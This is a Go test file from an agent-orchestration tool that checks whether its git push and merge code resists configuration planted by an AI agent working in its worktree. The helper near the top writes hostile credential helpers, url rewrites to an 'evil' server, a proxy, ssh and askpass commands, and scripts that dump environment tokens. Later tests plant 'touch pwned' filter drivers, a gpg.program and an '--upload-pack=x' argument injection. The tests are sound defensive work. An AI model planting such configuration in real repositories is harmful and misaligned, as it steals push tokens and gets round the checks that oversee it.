package gitops

import (
	"encoding/base64"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/prodigy-action/prodigy-action/gitops/gitopstest"
)

// plantHostileConfig writes, as an agent with a shell in its worktree can,
// every configuration that would run its code in, or redirect, a push:
// into the repository's config, an included file and a global config
// file. Each program it names writes what it sees to a file in leakDir.
// It returns the global config file.
func plantHostileConfig(t *testing.T, repo, leakDir, evilURL, goodURL string) string {
	t.Helper()
	leak := func(name string) string {
		p := filepath.Join(leakDir, name)
		script := "#!/bin/sh\nenv > " + p + "\ncat >> " + p + " 2>/dev/null\necho password\n"
		s := filepath.Join(leakDir, name+".sh")
		if err := os.WriteFile(s, []byte(script), 0o755); err != nil {
			t.Fatal(err)
		}
		return s
	}
	include := filepath.Join(leakDir, "included.cfg")
	inc := "[credential]\n\thelper = !" + leak("include-helper") + "\n[url \"" + evilURL + "/\"]\n\tpushInsteadOf = " + goodURL + "/\n"
	if err := os.WriteFile(include, []byte(inc), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, kv := range [][2]string{
		{"credential.helper", "!" + leak("helper")},
		{"url." + evilURL + "/.insteadOf", goodURL + "/"},
		{"http.proxy", evilURL},
		{"http." + goodURL + "/.extraheader", "AUTHORIZATION: basic cGxhbnRlZA=="},
		{"core.sshCommand", leak("ssh")},
		{"core.askPass", leak("askpass")},
		{"include.path", include},
	} {
		git(t, repo, "config", "--add", kv[0], kv[1])
	}
	global := filepath.Join(leakDir, "global.cfg")
	glob := "[credential]\n\thelper = !" + leak("global-helper") + "\n[url \"" + evilURL + "/\"]\n\tinsteadOf = " + goodURL + "/\n"
	if err := os.WriteFile(global, []byte(glob), 0o644); err != nil {
		t.Fatal(err)
	}
	return global
}

// TestPushCommitIgnoresPlantedConfig: with credential helpers, url
// rewrites, a proxy, ssh and askpass commands, an extra header and an
// include planted in the repository's and the global configuration, the
// push of PushCommit goes to the url it was given (a real git
// http-backend), carries exactly the engine's Authorization header, and
// nothing planted runs or receives a request. The same planted
// configuration does redirect a plain `git push origin` (Client.Push), so
// the attack is real.
func TestPushCommitIgnoresPlantedConfig(t *testing.T) {
	const token = "ghs_PUSHTESTTOKEN0123456789"
	goodRoot, evilRoot, leakDir := t.TempDir(), t.TempDir(), t.TempDir()
	git(t, goodRoot, "init", "-q", "--bare", "target.git")
	git(t, evilRoot, "init", "-q", "--bare", "target.git")
	good := gitopstest.NewHTTPServer(t, goodRoot)
	evil := gitopstest.NewHTTPServer(t, evilRoot)

	dir, _ := newRepo(t, map[string]string{"a.txt": "a\n"}, true)
	commit := git(t, dir, "rev-parse", "HEAD")
	git(t, dir, "remote", "add", "origin", good.URL+"/target.git")
	global := plantHostileConfig(t, dir, leakDir, evil.URL, good.URL)
	env := append(isolatedEnv(), "GIT_CONFIG_GLOBAL="+global)
	c, err := New(dir, Options{Env: env})
	if err != nil {
		t.Fatal(err)
	}

	auth := HTTPAuthConfig(good.URL, token)
	if err := c.PushCommit(bg(), t.TempDir(), good.URL+"/target.git", commit, "refs/heads/results", auth); err != nil {
		t.Fatal(err)
	}
	if got := git(t, filepath.Join(goodRoot, "target.git"), "rev-parse", "refs/heads/results"); got != commit {
		t.Errorf("good remote has results at %q, want %s", got, commit)
	}
	if n := len(evil.Requests()); n != 0 {
		t.Errorf("the planted url/proxy got %d request(s): %v", n, evil.Requests())
	}
	want := "basic " + base64.StdEncoding.EncodeToString([]byte("x-access-token:"+token))
	var pushes int
	for _, r := range good.Requests() {
		if !strings.EqualFold(r.Authorization, want) {
			t.Errorf("%s %s carried Authorization %q, want the engine's only", r.Method, r.Path, r.Authorization)
		}
		if strings.HasSuffix(r.Path, "/git-receive-pack") {
			pushes++
		}
	}
	if pushes == 0 {
		t.Errorf("no receive-pack request reached the good server: %v", good.Requests())
	}
	leaks, _ := filepath.Glob(filepath.Join(leakDir, "*"))
	for _, l := range leaks {
		if !strings.HasSuffix(l, ".sh") && !strings.HasSuffix(l, ".cfg") {
			b, _ := os.ReadFile(l)
			t.Errorf("planted program ran: %s (token seen: %v)", filepath.Base(l), strings.Contains(string(b), token) || strings.Contains(string(b), base64.StdEncoding.EncodeToString([]byte("x-access-token:"+token))))
		}
	}
	if tmp, _ := filepath.Glob(filepath.Join(os.TempDir(), "prodigy-push-*")); len(tmp) > 0 {
		t.Logf("note: other push directories exist: %v", tmp)
	}

	// Control: the repository's own configuration does hijack a push that
	// reads it.
	before := len(evil.Requests())
	_ = c.Push(bg(), "origin", []string{"refs/heads/main:refs/heads/main"}, auth)
	if len(evil.Requests()) == before {
		t.Errorf("control: a plain push was not redirected by the planted config; the test proves nothing")
	}
}

// TestPushCommitRefusesBadArguments: options cannot come from the url, the
// commit or the ref.
func TestPushCommitRefusesBadArguments(t *testing.T) {
	dir, c := newRepo(t, nil, true)
	commit := git(t, dir, "rev-parse", "HEAD")
	for _, tc := range []struct{ url, commit, ref string }{
		{"--upload-pack=x", commit, "refs/heads/x"},
		{"", commit, "refs/heads/x"},
		{"/tmp/x.git", "HEAD", "refs/heads/x"},
		{"/tmp/x.git", commit, "x"},
		{"/tmp/x.git", commit, "refs/heads/a..b"},
	} {
		if err := c.PushCommit(bg(), t.TempDir(), tc.url, tc.commit, tc.ref, nil); err == nil {
			t.Errorf("PushCommit(%q, %q, %q) succeeded", tc.url, tc.commit, tc.ref)
		}
	}
}

// TestAuditConfigFindsPlantedEntries: every planted entry, the included
// file's too, is reported as added since a baseline taken before; entries
// that were there before and harmless keys are not.
func TestAuditConfigFindsPlantedEntries(t *testing.T) {
	dir, c := newRepo(t, nil, true)
	git(t, dir, "config", "remote.origin.url", "https://example.invalid/r.git")
	before, err := c.AuditConfig(bg())
	if err != nil {
		t.Fatal(err)
	}
	if len(AddedConfig(before, before)) != 0 {
		t.Fatal("an audit differs from itself")
	}
	leakDir := t.TempDir()
	plantHostileConfig(t, dir, leakDir, "http://evil.invalid", "http://good.invalid")
	git(t, dir, "config", "filter.x.smudge", "touch pwned")
	git(t, dir, "config", "merge.x.driver", "touch pwned")
	git(t, dir, "config", "user.name", "Agent") // harmless
	now, err := c.AuditConfig(bg())
	if err != nil {
		t.Fatal(err)
	}
	added := AddedConfig(before, now)
	var keys []string
	for _, f := range added {
		keys = append(keys, f.Key)
	}
	got := strings.Join(keys, " ")
	for _, want := range []string{"credential.helper", "url.http://evil.invalid/.insteadof", "http.proxy", "core.sshcommand", "core.askpass", "include.path", "url.http://evil.invalid/.pushinsteadof", "filter.x.smudge", "merge.x.driver", "http.http://good.invalid/.extraheader"} {
		if !strings.Contains(" "+got+" ", " "+want+" ") {
			t.Errorf("audit misses %s; found %s", want, got)
		}
	}
	if strings.Contains(got, "user.name") || strings.Contains(got, "remote.origin.url") {
		t.Errorf("audit reports unchanged or harmless keys: %s", got)
	}
}

// TestNeutralConfigWinsOverRepository: signing with a planted gpg.program
// (commit.gpgSign=true in the repository's config) would run the agent's
// program in the engine's merge commit; the neutral configuration turns
// signing and credential helpers off for every git child of the Client.
func TestNeutralConfigWinsOverRepository(t *testing.T) {
	dir, _ := newRepo(t, map[string]string{"a.txt": "a\n"}, true)
	git(t, dir, "checkout", "-q", "-b", "side")
	commitFiles(t, dir, "side", map[string]string{"b.txt": "b\n"})
	git(t, dir, "checkout", "-q", "main")
	leak := filepath.Join(t.TempDir(), "gpg-ran")
	prog := filepath.Join(t.TempDir(), "gpg.sh")
	if err := os.WriteFile(prog, []byte("#!/bin/sh\ntouch "+leak+"\nexit 1\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	git(t, dir, "config", "commit.gpgSign", "true")
	git(t, dir, "config", "gpg.program", prog)
	git(t, dir, "config", "credential.helper", "!"+prog)
	c, err := New(dir, Options{Env: isolatedEnv()})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := c.MergeNoFF(bg(), dir, "side", "merge side"); err != nil {
		t.Fatalf("merge: %v", err)
	}
	if _, err := os.Stat(leak); err == nil {
		t.Error("the planted gpg.program ran in the engine's merge")
	}
	out, err := c.run(bg(), dir, nil, nil, "config", "--get-all", "credential.helper")
	if err != nil || lastLine(out) != "" {
		t.Errorf("the engine's credential.helper list does not end with the empty reset: %q, %v", out, err)
	}
}

func lastLine(s string) string {
	s = strings.TrimSuffix(s, "\n")
	if i := strings.LastIndexByte(s, '\n'); i >= 0 {
		return s[i+1:]
	}
	return s
}

// TestAuditConfigReadsWorktreeConfig: with extensions.worktreeConfig on,
// a filter driver planted in a linked worktree's config.worktree (read by
// git commands run there, not at the top level) is found when that
// worktree is audited.
func TestAuditConfigReadsWorktreeConfig(t *testing.T) {
	dir, c := newRepo(t, nil, true)
	git(t, dir, "config", "extensions.worktreeConfig", "true")
	wt := filepath.Join(t.TempDir(), "parent")
	git(t, dir, "worktree", "add", "-q", "-b", "results", wt)
	before, err := c.AuditConfig(bg(), wt)
	if err != nil {
		t.Fatal(err)
	}
	git(t, wt, "config", "--worktree", "filter.x.smudge", "touch pwned")
	top, err := c.AuditConfig(bg())
	if err != nil {
		t.Fatal(err)
	}
	if added := AddedConfig(before, top); len(added) != 0 {
		t.Fatalf("the top level sees the worktree's entry: %v", added)
	}
	now, err := c.AuditConfig(bg(), wt)
	if err != nil {
		t.Fatal(err)
	}
	if added := AddedConfig(before, now); len(added) != 1 || added[0].Key != "filter.x.smudge" || added[0].Scope != "worktree" {
		t.Errorf("added = %v, want the worktree's filter.x.smudge", added)
	}
}
